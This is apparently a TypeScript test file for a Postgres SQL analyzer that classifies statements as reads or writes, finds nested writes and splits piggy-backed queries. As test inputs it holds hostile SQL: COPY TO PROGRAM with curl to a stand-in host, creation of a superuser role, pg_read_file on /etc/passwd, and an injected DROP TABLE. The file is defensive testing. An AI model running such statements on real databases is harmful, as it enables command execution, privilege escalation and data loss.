import { postgresAnalyzer } from '../../../../lambdas/core/sql/analyze-postgres.js';
import type { SqlFacts, StatementFacts } from '../../../../lambdas/core/sql/facts.js';

beforeAll(() => postgresAnalyzer.load());

const statements = (sql: string): readonly StatementFacts[] => {
  const facts = postgresAnalyzer.analyze(sql);
  if (!facts.parseOk) throw new Error(`did not parse: ${facts.error}`);
  return facts.statements;
};
const only = (sql: string): StatementFacts => {
  const list = statements(sql);
  expect(list).toHaveLength(1);
  return list[0]!;
};

describe('postgresAnalyzer', () => {
  it('reports a plain SELECT as a read with its tables', () => {
    expect(
      only('SELECT c.id, o.amount FROM customers c JOIN public.orders o ON o.customer_id = c.id'),
    ).toMatchObject({
      kind: 'select',
      readOnly: true,
      tables: ['customers', 'public.orders'],
      locking: false,
    });
  });

  it.each([
    ['DROP TABLE customers', 'ddl'],
    ['drop   table   "customers"', 'ddl'],
    ['CREATE TABLE t (id int)', 'ddl'],
    ['ALTER TABLE customers ADD COLUMN x int', 'ddl'],
    ['TRUNCATE orders', 'ddl'],
    ['SELECT * INTO copy_of_customers FROM customers', 'ddl'],
    ['INSERT INTO orders (amount) VALUES (1)', 'insert'],
    ['UPDATE customers SET email = null', 'update'],
    ['DELETE FROM orders WHERE id = 1', 'delete'],
    ['MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE', 'merge'],
    ['GRANT SELECT ON customers TO public', 'dcl'],
    ['CREATE ROLE attacker SUPERUSER', 'dcl'],
    ['SET ROLE postgres', 'session'],
    ['RESET ALL', 'session'],
    ['BEGIN', 'transaction'],
    ["COPY customers TO PROGRAM 'curl evil'", 'copy'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'procedural'],
    ['CALL do_things()', 'procedural'],
    ['VACUUM customers', 'utility'],
    ['LOCK TABLE customers', 'utility'],
  ])('classifies %s as %s and not read-only', (sql, kind) => {
    expect(only(sql)).toMatchObject({ kind, readOnly: false });
  });

  it('counts DML inside a CTE as a write', () => {
    const s = only('WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone');
    expect(s).toMatchObject({ kind: 'select', readOnly: false, nestedWrites: ['delete'] });
    expect(s.tables).toEqual(['orders']);
  });

  it('finds a write nested deep in subqueries and CTEs', () => {
    const s = only(
      'WITH a AS (WITH b AS (UPDATE customers SET notes = 1 RETURNING id) SELECT * FROM b) SELECT * FROM a',
    );
    expect(s.nestedWrites).toEqual(['update']);
  });

  it('reports row-locking clauses', () => {
    expect(only('SELECT * FROM orders FOR UPDATE')).toMatchObject({ kind: 'select', locking: true });
  });

  it('reports functions with their schema qualification', () => {
    expect(
      only("SELECT pg_catalog.pg_read_file('/etc/passwd'), upper(full_name) FROM customers").functions,
    ).toEqual(['pg_catalog.pg_read_file', 'upper']);
  });

  it('treats EXPLAIN of a read as a read, and EXPLAIN ANALYZE of a write as a write', () => {
    expect(only('EXPLAIN SELECT * FROM orders')).toMatchObject({ kind: 'explain', readOnly: true });
    expect(only('EXPLAIN ANALYZE DELETE FROM orders')).toMatchObject({ kind: 'explain', readOnly: false });
  });

  it('splits piggy-backed statements and cuts each one’s text', () => {
    const list = statements('SELECT 1; DROP TABLE customers; -- bye');
    expect(list.map((s) => [s.kind, s.text])).toEqual([
      ['select', 'SELECT 1'],
      ['ddl', 'DROP TABLE customers'],
    ]);
  });

  it('cuts statement text by UTF-8 byte offsets, so non-ASCII text stays intact', () => {
    const list = statements("SELECT 'größe ✓' AS label; SELECT 2");
    expect(list.map((s) => s.text)).toEqual(["SELECT 'größe ✓' AS label", 'SELECT 2']);
  });

  it('is not fooled by keywords inside strings, comments or dollar quotes', () => {
    expect(only("SELECT 'DROP TABLE customers' /* DELETE FROM x */, $q$; TRUNCATE t$q$")).toMatchObject({
      kind: 'select',
      readOnly: true,
    });
  });

  it('treats EXPLAIN of anything but a SELECT as not read-only (EXPLAIN ANALYZE executes it)', () => {
    expect(only('EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1')).toMatchObject({
      kind: 'explain',
      readOnly: false,
    });
    expect(only('EXPLAIN ANALYZE CREATE MATERIALIZED VIEW v AS SELECT 1')).toMatchObject({ readOnly: false });
    expect(only('EXPLAIN EXECUTE stmt')).toMatchObject({ readOnly: false });
  });

  it('does not count SHOW as a read: it can expose server configuration', () => {
    expect(only('SHOW data_directory')).toMatchObject({ kind: 'session', readOnly: false });
  });

  it('analyses deeply nested expressions without overflowing the stack', () => {
    expect(only(`SELECT ${'1+'.repeat(6000)}1`)).toMatchObject({ kind: 'select', readOnly: true });
  });

  it('refuses, as unanalysable, a statement too large to analyse completely', () => {
    const facts = postgresAnalyzer.analyze(`SELECT ${'1,'.repeat(100_000)}1`);
    expect(facts).toMatchObject({ parseOk: false, error: 'the statement is too complex to analyse' });
  });

  it('refuses text containing a NUL, which the parser would stop reading at', () => {
    expect(postgresAnalyzer.analyze('SELECT 1\u0000; DROP TABLE customers')).toMatchObject({
      parseOk: false,
    });
  });

  it('returns no statements for text holding only comments', () => {
    expect(statements('-- nothing here')).toEqual([]);
  });

  it('reports unparseable text as a fact with the parser’s message and position, without throwing', () => {
    const facts: SqlFacts = postgresAnalyzer.analyze('SELEC * FROM customers');
    expect(facts).toEqual({
      parseOk: false,
      dialect: 'postgres',
      error: 'syntax error at or near "SELEC"',
      position: 1,
    });
  });
});
